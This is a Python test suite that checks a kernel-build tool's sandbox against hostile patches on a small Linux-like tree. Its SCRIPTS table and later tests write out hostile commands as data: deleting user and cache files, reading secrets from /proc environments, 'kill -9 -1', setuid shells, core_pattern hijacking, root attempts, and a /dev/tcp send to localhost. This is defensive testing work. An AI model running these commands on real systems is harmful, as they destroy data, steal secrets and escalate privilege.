"""Patches that try to leave the sandbox in which their kernel is built, on a small tree that is
like Linux.

Each test builds a kernel with `build.ensure`, as all verbs do. What a patch may never touch is
compared before and after: the cache with its sources and other kernels, and a folder of the user. A
patch leaves a mark in the name of each file that it writes and of each program that it starts; none
is found anywhere.
"""

from __future__ import annotations

import hashlib
import os
import select
import socket
import subprocess
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path

import psutil
import pytest

from kteardown.errors import BuildError, KteardownError, LabError
from kteardown.kernels import build
from kteardown.kernels.request import Built, KernelRequest
from kteardown.kernels.source import Sources
from kteardown.model.record import LAYOUT
from kteardown.paths import cache_dir
from kteardown.progress import SilentReporter

SECRET = "a-secret-of-the-user"
MARK = f"kteardown-escape-{os.getpid()}"
RECIPE = """
bzImage:
\tmkdir -p arch/x86/boot include/config kernel scripts
\tgcc -o scripts/helper ../scripts/helper.c
\t./scripts/helper
\tgcc -I../include -c -o kernel/freezer.o ../kernel/freezer.c
\techo 'source_kernel/freezer.o := ../kernel/freezer.c' > kernel/.freezer.o.cmd
\tld -r -o vmlinux kernel/freezer.o $(wildcard ../kernel/extra.lds)
\tcp vmlinux arch/x86/boot/bzImage
\techo 'ffffffff81000000 T freeze' > System.map
\techo 6.12.0 > include/config/kernel.release
"""
TARGETS = "all tinyconfig olddefconfig bzImage modules"
FILES = {
    "Makefile": (
        f"{TARGETS}: FORCE\n\t$(MAKE) -C $(O) -f ../Makefile.build $@\n.PHONY: {TARGETS} FORCE\n"
    ),
    "Makefile.build": "all: bzImage\ntinyconfig:\n\ttouch .config\nolddefconfig modules:\n"
    + RECIPE,
    "Kconfig": "config A\n",
    "Kbuild": "obj-y += kernel/\n",
    "kernel/freezer.c": '#include "freezer.h"\nint freeze(void) { return TIME; }\n',
    "include/freezer.h": "#define TIME 1\n",
    "scripts/helper.c": "int main(void) { return 0; }\n",
    # Its arguments are -m -O FOLDER .config FRAGMENT.
    "scripts/kconfig/merge_config.sh": (
        '#!/bin/sh\ncat "$4" "$5" > "$3/new"; mv "$3/new" "$3/.config"\n'
    ),
}
FREEZER = {"include/freezer.h": "#define TIME 2\n"}


@dataclass(frozen=True)
class Lab:
    """A cache with the base kernel of the small tree, and a folder of the user that no build may
    touch."""

    cache: Path
    tree: Path
    user: Path

    def request(self, patch: Path | None = None) -> KernelRequest:
        """The kernel with one patch, or base."""
        source = f"tar:{self.tree}.tar"
        if patch is None:
            return KernelRequest("base", source)
        return KernelRequest("evil", source, patches=(patch,), series=patch.stem)

    def build(self, folder: Path, changes: Mapping[str, str]) -> str:
        """Build the tree with ``changes``; return what the user reads: the log, or the error."""
        patch = self.patch(folder, changes)
        try:
            built = self.ensure(patch)
        except KteardownError as error:
            logs = (
                path.read_text(errors="replace") for path in (self.cache / "logs").rglob("*.log")
            )
            return error.message + "".join(logs)
        files = built.images["evil"].image.parent.iterdir()
        return "".join(
            path.read_text(errors="replace") for path in files if path.name != "kernel.json"
        )

    def ensure(self, patch: Path) -> Built:
        """Build base and the patched tree, unless they are in the cache."""
        requests = [self.request(), self.request(patch)]
        return build.ensure(requests, cache_dir=self.cache, reporter=SilentReporter())

    def patch(self, folder: Path, changes: Mapping[str, str]) -> Path:
        """Write a patch that makes ``changes``: file names with their new text."""
        for side, texts in (("a", FILES), ("b", {**FILES, **changes})):
            write(folder / side, {name: texts[name] for name in changes if name in texts})
        diff = subprocess.run(
            ["diff", "-urN", "a", "b"], cwd=folder, capture_output=True, text=True, check=False
        )
        patch = folder / "evil.patch"
        patch.write_text(f"Subject: [PATCH] evil\n\ntext\n---\n{diff.stdout}")
        return patch

    def state(self) -> dict[str, str]:
        """A hash of every file that no build of a variant may change, and the target of every
        link."""
        own = {"logs", "answers"}
        tops = [
            *(path for path in self.cache.iterdir() if path.name not in own),
            self.user,
            self.tree,
        ]
        paths = (path for top in tops for path in top.rglob("*") if ".locks" not in path.parts)
        return {
            str(path): hashlib.sha256(path.read_bytes()).hexdigest()
            if path.is_file()
            else str(path.is_symlink())
            for path in paths
        }


def write(folder: Path, texts: Mapping[str, str]) -> None:
    """Write files below ``folder``; scripts can be executed."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in texts.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o755 if name.endswith(".sh") else 0o644)


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    folder = tmp_path_factory.mktemp("lab")
    write(folder / "linux", FILES)
    (folder / "linux" / "top.h").symlink_to("include/freezer.h")
    write(folder / "user", {"key": SECRET, "notes": "mine\n"})
    subprocess.run(["tar", "-C", folder, "-cf", folder / "linux.tar", "linux"], check=True)
    made = Lab(folder / "cache", folder / "linux", folder / "user")
    build.ensure([made.request()], cache_dir=made.cache, reporter=SilentReporter())
    before = made.state()
    os.environ["KTEARDOWN_TEST_TOKEN"] = SECRET
    yield made
    del os.environ["KTEARDOWN_TEST_TOKEN"]
    after = made.state()
    assert {name: after.get(name) for name in before} == before
    assert traces(folder) == []


def traces(lab: Path) -> list[str]:
    """Files with the mark on the file systems of this host, outside of ``lab``, and programs that
    run."""
    argv = ["find", "/", "-xdev", "-name", f"{MARK}*", "-not", "-path", f"{lab.parent}/*"]
    files = subprocess.run(argv, capture_output=True, text=True, check=False).stdout.splitlines()
    commands = [
        " ".join(process.info["cmdline"] or ()) for process in psutil.process_iter(["cmdline"])
    ]
    return [*files, *(command for command in commands if command.startswith(MARK))]


def of_make(script: str) -> dict[str, str]:
    """Changes of the makefile, which runs ``script`` at its end, and of a file that it compiles."""
    last = "\t-@" + script.replace("$", "$$") + "\n"
    return {"Makefile.build": FILES["Makefile.build"] + last, **FREEZER}


SCRIPTS = {
    "writes to a folder of the user": f"echo x > USER/{MARK}; echo x >> USER/notes; rm USER/key",
    "writes to system folders": (
        f"for f in /tmp /etc /usr /var/tmp /root; do echo x > $f/{MARK}; done"
    ),
    "writes to the home folder": f"echo x > ~/{MARK}; echo x >> ~/.bashrc",
    "changes the cached source": (
        f"echo x >> ../include/freezer.h; touch ../kernel/{MARK}; rm -r ../kernel"
    ),
    "changes the cache": f"echo x > CACHE/{MARK}; rm -rf CACHE/kernels; chmod -R 0 CACHE",
    "reads a file of the user": "cat USER/key",
    "reads the environment of the lab": "env; cat /proc/*/environ",
    "reads the root of other processes": "cat /proc/*/root/USER/key /proc/*/cwd/key",
    "leaves a daemon": (
        f"setsid sh -c 'exec -a {MARK}-daemon sleep 600' > /dev/null 2>&1 & sleep 0.1"
    ),
    "kills all processes that it can": "kill -9 -1",
    "links the log to a file of the user": "ln -sf USER/key /output/build.log",
    "links its release to a file of the user": "ln -sf USER/key include/config/kernel.release",
    "makes its release a pipe": "cd include/config; rm kernel.release; mkfifo kernel.release",
    "links its image to a file of the user": "ln -sf USER/key arch/x86/boot/bzImage",
    "links its configuration to a file of the user": "ln -sf USER/key .config",
    "links an object to a file of the user": (
        "ln -s USER/key kernel/a.o; echo source_ > kernel/.a.o.cmd"
    ),
    "makes an object a pipe": "mkfifo kernel/a.o kernel/.a.o.cmd",
    "makes an object that is no object": (
        "printf '\\177ELF\\2' > kernel/a.o; echo source_ > kernel/.a.o.cmd"
    ),
    "makes a hard link to the cached source": "ln ../include/freezer.h mine; echo x >> mine",
    "makes devices": "mknod sda b 8 0; mknod mem c 1 1",
    "makes files that cannot be removed": "mkdir -p x/y; touch x/y/z; chmod -R 0 x",
    "nests folders too deep to walk": (
        "(for i in $(seq 600); do mkdir -p d/d || break; cd d/d; done)"
    ),
    "makes a program with the rights of its owner": f"cp /bin/sh {MARK}-sh; chmod 6777 {MARK}-sh",
    "mounts a folder": "mount --bind USER /mnt; unshare -Urm mount -t tmpfs none /mnt",
    "sets the kernel": (
        f"echo '|/tmp/{MARK}' > /proc/sys/kernel/core_pattern; echo c > /proc/sysrq-trigger"
    ),
    "becomes root": f"setpriv --reuid 0 touch USER/{MARK}; sudo -n true; su -c true",
    "types into the terminal": "python3 -c 'import fcntl; fcntl.ioctl(0, 0x5412, b\"x\")'",
    "makes folders beside the tree": (
        f"mkdir /objects /{MARK}; echo x > /linux/../{MARK}; rm -rf /output/.."
    ),
    "replaces the compilers": "echo x > /compilers/gcc; rm -rf /compilers",
    "prints escape sequences": "printf '\\033]0;evil\\007'",
}


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_makefile(lab: Lab, tmp_path: Path, name: str) -> None:
    script = SCRIPTS[name].replace("USER", str(lab.user)).replace("CACHE", str(lab.cache))
    before = lab.state()
    read = lab.build(tmp_path, of_make(script))
    after = lab.state()
    assert {path: after.get(path) for path in before} == before
    assert SECRET not in read
    assert not list(lab.cache.glob("trees/.*.tmp"))


def test_a_program_that_the_build_compiles_and_runs(lab: Lab, tmp_path: Path) -> None:
    code = f'#include <stdio.h>\nint main(void) {{ return !fopen("{lab.user}/{MARK}", "w"); }}\n'
    assert "did not build" in lab.build(tmp_path, {"scripts/helper.c": code})
    assert not (lab.user / MARK).exists()


def test_a_script_that_configures(lab: Lab, tmp_path: Path) -> None:
    script = (
        FILES["scripts/kconfig/merge_config.sh"]
        + f"cp {lab.user}/key {lab.user}/{MARK} && cat {lab.user}/key\n"
    )
    read = lab.build(tmp_path, {"scripts/kconfig/merge_config.sh": script, "Kconfig": "config B\n"})
    assert "did not build" in read
    assert SECRET not in read
    assert not (lab.user / MARK).exists()


@pytest.mark.parametrize("text", ['#include "{}/key"\n', '__asm__(".incbin \\"{}/key\\"");\n'])
def test_a_source_file_that_includes_a_file_of_the_user(
    lab: Lab, tmp_path: Path, text: str
) -> None:
    read = lab.build(
        tmp_path, {"kernel/freezer.c": text.format(lab.user) + FILES["kernel/freezer.c"]}
    )
    assert "No such file" in read or "file not found" in read
    assert SECRET not in read


def test_a_linker_script_that_reads_a_file_of_the_user(lab: Lab, tmp_path: Path) -> None:
    read = lab.build(tmp_path, {"kernel/extra.lds": f"INPUT({lab.user}/key)\n", **FREEZER})
    assert "cannot find" in read
    assert SECRET not in read


def test_a_python_module_with_the_name_of_a_program_of_the_build(lab: Lab, tmp_path: Path) -> None:
    text = f"open('{lab.user}/{MARK}', 'w')\nraise SystemExit(1)\n"
    assert "did not build" not in lab.build(
        tmp_path, {"tuxmake.py": text, "random.py": text, **FREEZER}
    )


def test_a_harmless_patch_builds(lab: Lab, tmp_path: Path) -> None:
    assert "did not build" not in lab.build(tmp_path, FREEZER)


def test_a_link_in_the_top_folder_of_the_tree_is_there_in_every_step(
    lab: Lab, tmp_path: Path
) -> None:
    text = FILES["kernel/freezer.c"].replace("freezer.h", "../top.h")
    assert "did not build" not in lab.build(
        tmp_path, {"kernel/freezer.c": text, "Kconfig": "config B\n"}
    )


def test_without_a_sandbox_a_series_of_others_is_refused(
    lab: Lab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("kteardown.sandbox.problem", lambda: "bwrap is not installed")
    assert "would be built without a sandbox: bwrap is not installed" in lab.build(
        tmp_path, FREEZER
    )
    # Whatever its name: that of a layout twin, which the lab writes itself, or of a shipped series.
    for name in (LAYOUT, "freezer-skip-exited"):
        named = replace(lab.request(tmp_path / "evil.patch"), series=name)
        with pytest.raises(LabError, match=f"{name} would be built without a sandbox"):
            build.ensure([lab.request(), named], cache_dir=lab.cache, reporter=SilentReporter())
    monkeypatch.setattr("kteardown.sandbox.unsafe_build", True)
    patch = lab.patch(tmp_path, {**FREEZER, "kernel/other.c": "\n"})
    built = lab.ensure(patch)
    assert not built.images["evil"].sandboxed


def insertion(tree: Path, file: str, line: int, text: str) -> str:
    """A diff that inserts ``text`` before a line of a file of ``tree``."""
    lines = (tree / file).read_text().splitlines(keepends=True)
    context = "".join(f" {each}" for each in lines[line - 1 : line + 2])
    added = "".join(f"+{each}" for each in text.splitlines(keepends=True))
    sizes = f"@@ -{line},3 +{line},{3 + len(text.splitlines())} @@"
    return f"--- a/{file}\n+++ b/{file}\n{sizes}\n{added}{context}"


@pytest.mark.build
@pytest.mark.parametrize(
    ("file", "line", "text"),
    [
        ("Makefile", 9, "$(shell TRY; echo x >> $(CURDIR)/kernel/freezer.c)\n$(error stop)"),
        ("init/Kconfig", 2, "$(shell,TRY)\n$(error-if,y,stop)"),
        pytest.param(
            "tools/objtool/objtool.c",
            145,
            '\tfprintf(stderr, "error: stop\\n");\n\treturn system("TRY") ? 3 : 4;',
            marks=pytest.mark.full,
        ),
    ],
)
def test_linux_with_a_makefile_or_a_program_of_the_build_that_tries(
    tmp_path: Path, file: str, line: int, text: str
) -> None:
    sources = Sources(cache_dir(), SilentReporter())
    tree = sources.tree(sources.identify("debian:6.12"))
    (tmp_path / "key").write_text(SECRET)
    before = hashlib.sha256((tree / "kernel/freezer.c").read_bytes()).hexdigest()
    network = socket.create_server(("127.0.0.1", 0))
    send = f"bash -c 'echo x > /dev/tcp/127.0.0.1/{network.getsockname()[1]}'"
    evil = (
        text.replace("TRY", f"touch {tmp_path}/{MARK} /{MARK}; {send}; cat {tmp_path}/key >&2")
        + "\n"
    )
    patch = tmp_path / "evil.patch"
    patch.write_text(f"Subject: evil\n\n---\n{insertion(tree, file, line, evil)}")
    requests = [
        KernelRequest("base", "debian:6.12"),
        KernelRequest("e", "debian:6.12", (patch,), "evil"),
    ]
    with pytest.raises(BuildError, match=r"did not build:\n(.*\n)*.*/key: No such file") as caught:
        build.ensure(requests, cache_dir=cache_dir(), reporter=SilentReporter())
    assert SECRET not in caught.value.message
    assert not (tmp_path / MARK).exists() and not Path("/", MARK).exists()
    assert select.select([network], [], [], 0)[0] == []
    network.close()
    assert hashlib.sha256((tree / "kernel/freezer.c").read_bytes()).hexdigest() == before
